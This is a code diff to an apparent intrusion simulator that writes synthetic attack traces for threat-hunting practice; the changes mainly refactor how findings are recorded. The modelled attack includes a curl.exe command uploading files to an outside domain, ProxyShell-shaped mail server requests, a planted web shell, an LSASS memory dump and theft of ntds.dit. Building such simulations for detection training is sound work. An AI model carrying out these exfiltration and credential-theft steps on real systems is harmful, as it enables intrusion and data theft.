@@ -6,6 +6,7 @@ Nothing here is an exploit: requests carry no working payload, only the shape th
 from __future__ import annotations
 
 from base64 import b64encode
+from collections.abc import Sequence
 from dataclasses import dataclass, field
 from datetime import datetime
 from random import Random
@@ -16,7 +17,7 @@ from stillhunt.simulation.chance import hexadecimal, stream, wobble
 from stillhunt.simulation.estate import Person
 from stillhunt.simulation.machine import Machine
 from stillhunt.simulation.programs import SYSTEM32
-from stillhunt.simulation.truth import ClearedLog
+from stillhunt.simulation.truth import ClearedLog, union
 from stillhunt.simulation.windows import Process, Session
 from stillhunt.simulation.world import World
 
@@ -49,7 +50,7 @@ class Intruder:
     random: Random = field(init=False)
 
     def __post_init__(self) -> None:
-        self.random = stream(self.world.seed, "intruder")
+        self.random = self.world.chance("intruder")
 
     @property
     def mail(self) -> Machine:
@@ -59,12 +60,26 @@ class Intruder:
     def begin(self, title: str, machine: Machine, tactics: tuple[str, ...], techniques: tuple[str, ...]) -> None:
         """Begin a stage on a machine, which counts as compromised from here on."""
         self.world.ledger.begin(title, host=machine.host.fqdn, tactics=tactics, techniques=techniques)
-        _note(self.world.ledger.hosts, machine.host.fqdn)
+        union(self.world.ledger.hosts, (machine.host.fqdn,))
+
+    def begin_at(self, title: str, where: str, tactics: tuple[str, ...], techniques: tuple[str, ...]) -> None:
+        """Begin a stage somewhere that is no Windows machine, or that does not count as compromised by it."""
+        self.world.ledger.begin(title, host=where, tactics=tactics, techniques=techniques)
+
+    def reads_files(self, machine: Machine, session: Session, share: str, local: str, files: Sequence[str]) -> None:
+        """Open a share of a machine in a session, and read files of it."""
+        ledger = self.world.ledger
+        machine.open_share(self.after(0.2, 2), session, share, local)
+        for file in files:
+            machine.touch_share_file(self.after(0.4, 9), session, share, local, file)
+        union(ledger.hosts, (machine.host.fqdn,))
+        union(ledger.shares, (f"\\\\{machine.host.name}\\{share}",))
+        union(ledger.files_read, (f"{local}\\{file}" for file in files))
 
     def come_back(self, at: datetime, address: str) -> None:
         """Be back at a later time, from an address."""
         self.now, self.address = at, address
-        _note(self.world.ledger.addresses, address)
+        union(self.world.ledger.addresses, (address,))
 
     def after(self, low_s: float, high_s: float) -> datetime:
         """Let time pass, and return the moment of the next act, noted as a sign of the intruder."""
@@ -107,7 +122,7 @@ class Intruder:
     def drops(self, at: datetime, machine: Machine, process: Process, path: str) -> None:
         """Write a file."""
         machine.create_file(at, process, path)
-        _note(self.world.ledger.paths, path)
+        union(self.world.ledger.paths, (path,))
 
     def dumps_credentials(self, path: str) -> None:
         """Copy the memory of LSASS into a file, with a library that Windows brings along."""
@@ -119,7 +134,7 @@ class Intruder:
 
     def acts_as(self, person: Person) -> None:
         """Note that an account is in the intruder's hands."""
-        _note(self.world.ledger.accounts, self.world.estate.account(person))
+        union(self.world.ledger.accounts, (self.world.estate.account(person),))
 
     def reaches(self, machine: Machine, person: Person, *, with_process: Process) -> Session:
         """Log on over the network from the mail server to another machine with a stolen account."""
@@ -159,8 +174,8 @@ class Intruder:
 
     def sends(self, path: str, domain: str, address: str) -> None:
         """Upload a file of the mail server to a host outside."""
-        _note(self.world.ledger.domains, domain)
-        _note(self.world.ledger.addresses, address)
+        union(self.world.ledger.domains, (domain,))
+        union(self.world.ledger.addresses, (address,))
         line = f"curl.exe -s -k -T {path} https://{domain}/put/{path.rpartition(chr(92))[2]}"
         process = self.types(line, program="curl.exe")
         self.mail.query_name(self.after(0.1, 0.5), process, domain, address)
@@ -186,7 +201,7 @@ def forge_front_end(intruder: Intruder, person: Person, *, domain: str, page: st
     tail = f"&Email=autodiscover/autodiscover.json%3F{mark}"
     stem = "/autodiscover/autodiscover.json"
     intruder.begin("mail server entered through its front end", mail, ("initial-access",), ("T1190",))
-    _note(world.ledger.domains, domain)
+    union(world.ledger.domains, (domain,))
     intruder.asks(intruder.after(0, 1), "GET", stem, f"{mark}/mapi/nspi/?{tail}")
     intruder.asks(intruder.after(20, 80), "POST", stem, f"{mark}/autodiscover/autodiscover.xml?{tail}")
     intruder.asks(intruder.after(2, 6), "POST", stem, f"{mark}/mapi/emsmdb/?{tail}", status="500")
@@ -208,7 +223,7 @@ def forge_front_end(intruder: Intruder, person: Person, *, domain: str, page: st
         _runs_cmdlet(intruder, person, cmdlet, parameters, stem=stem, back_end=back_end)
     at = intruder.after(6, 25)
     intruder.drops(at, mail, mail.standing("mailboxreplication", at), on_disk)
-    _note(world.ledger.web_shells, page)
+    union(world.ledger.web_shells, (page,))
     intruder.acts_as(person)
     intruder.page = page
     intruder.asks(intruder.after(4, 15), "GET", page)
@@ -246,7 +261,7 @@ def export_mailbox(intruder: Intruder, owner: Person, person: Person, path: str)
     )
     at = intruder.after(40, 400)
     intruder.drops(at, mail, mail.standing("mailboxreplication", at), path)
-    _note(intruder.world.ledger.mailboxes, mailbox)
+    union(intruder.world.ledger.mailboxes, (mailbox,))
 
 
 def take_database(intruder: Intruder, person: Person, folder: str) -> None:
@@ -266,19 +281,22 @@ def take_database(intruder: Intruder, person: Person, folder: str) -> None:
     values = ["ntdsutil", "4480,D,50", "", "1", copied, "0", "[1] 0.000, [2] 0.000, [3] 0.016"]
     dc.log(intruder.after(2, 6), kinds.DATABASE_CREATED, values)
     dc.log(intruder.after(8, 30), kinds.DATABASE_DETACHED, values)
-    _note(intruder.world.ledger.paths, copied)
+    union(intruder.world.ledger.paths, (copied,))
     opened = intruder.after(30, 90)
     dc.open_share(opened, session, "C$", "C:\\")
     for name in ("Active Directory\\ntds.dit", "registry\\SYSTEM"):
         path = f"{folder}\\{name}".partition("\\")[2]
         dc.touch_share_file(intruder.after(1, 20), session, "C$", "C:\\", path)
     dc.log_off(intruder.after(20, 60), session, 3)
+    estate = intruder.world.estate
+    union(intruder.world.ledger.hosts_potential, (h.fqdn for h in estate.hosts))
+    union(intruder.world.ledger.mailboxes_potential, (estate.mailbox(p) for p in estate.staff))
     for exposed in (
         *intruder.world.estate.staff,
         *intruder.world.estate.administrators,
         *intruder.world.estate.services,
     ):
-        _note(intruder.world.ledger.exposed, intruder.world.estate.account(exposed))
+        union(intruder.world.ledger.exposed, (intruder.world.estate.account(exposed),))
 
 
 def _runs_cmdlet(intruder: Intruder, person: Person, cmdlet: str, parameters: str, *, stem: str, back_end: str) -> None:
@@ -299,8 +317,3 @@ def _on_own_share(path: str) -> str:
     """
     drive, _, rest = path.partition(":\\")
     return f"\\\\127.0.0.1\\{drive.lower()}$\\{rest}"
-
-
-def _note(notes: list[str], value: str) -> None:
-    if value not in notes:
-        notes.append(value)
